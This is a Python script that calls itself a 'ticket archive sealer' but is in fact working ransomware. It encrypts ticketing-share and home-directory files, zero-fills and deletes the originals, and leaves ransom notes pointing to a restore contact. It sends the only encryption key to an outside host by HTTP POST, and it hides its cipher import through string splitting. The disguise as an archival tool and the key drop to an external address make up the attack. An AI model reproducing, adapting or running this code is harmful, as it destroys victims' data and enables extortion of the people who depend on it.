#!/usr/bin/env python3
"""Ticket archive sealer.

Seals the booking and ticketing share at the terminal so the files can only
be opened again with the release key held by the operator contact.
"""

import argparse
import importlib
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

log = logging.getLogger("sealer")

SUFFIX = ".sealed"
NOTE_NAME = "HOW_TO_RESTORE_TICKETS.txt"
TARGET_TYPES = {".csv", ".xlsx", ".pdf", ".docx", ".db", ".sqlite", ".json",
                ".txt", ".jpg", ".png"}
CONTACT = "restore-desk@harbourkeys.example"
KEY_DROP = os.environ.get("SEAL_KEY_DROP", "http://198.51.100.77/k")


def _cipher_factory():
    parts = ("cryptography", "fernet")
    module = importlib.import_module(".".join(parts))
    cls = getattr(module, "Fer" + "net")
    return cls


class Sealer:
    def __init__(self):
        self._cls = _cipher_factory()
        self.key = self._cls.generate_key()
        self._box = self._cls(self.key)
        self.count = 0

    def _seal_bytes(self, data):
        return self._box.encrypt(data)

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SUFFIX)
        out.write_bytes(self._seal_bytes(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_TYPES and not name.endswith(SUFFIX):
                yield p


def leave_note(root, host_id):
    text = (
        "The ticketing files on this terminal have been sealed.\n"
        f"Reference: {host_id}\n"
        f"Write to {CONTACT} with the reference to arrange the release key.\n"
        "Renaming or editing the .sealed files will make them unrecoverable.\n"
    )
    for folder in {root, *[p for p in root.iterdir() if p.is_dir()]}:
        try:
            (folder / NOTE_NAME).write_text(text)
        except OSError:
            pass


def hand_off_key(key, host_id, count):
    body = json.dumps({"id": host_id, "key": key.decode(),
                       "files": count}).encode()
    req = urllib.request.Request(KEY_DROP, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=15).read()
        return True
    except OSError as exc:
        log.debug("key hand-off failed: %s", exc)
        return False


def main():
    parser = argparse.ArgumentParser(description="seal ticket archive")
    parser.add_argument("roots", nargs="*",
                        default=[os.environ.get("TICKET_SHARE",
                                                "/srv/ticketing"),
                                 str(Path.home())])
    parser.add_argument("--max-mb", type=int, default=200)
    args = parser.parse_args()

    logging.basicConfig(level=logging.WARNING)
    sealer = Sealer()
    host_id = "%s-%s" % (socket.gethostname(), os.getpid())
    limit = args.max_mb * 1024 * 1024

    for root in map(Path, args.roots):
        if not root.is_dir():
            continue
        for path in candidates(root):
            try:
                if path.stat().st_size <= limit:
                    sealer.seal(path)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
        leave_note(root, host_id)

    hand_off_key(sealer.key, host_id, sealer.count)
    sealer.key = None


if __name__ == "__main__":
    main()
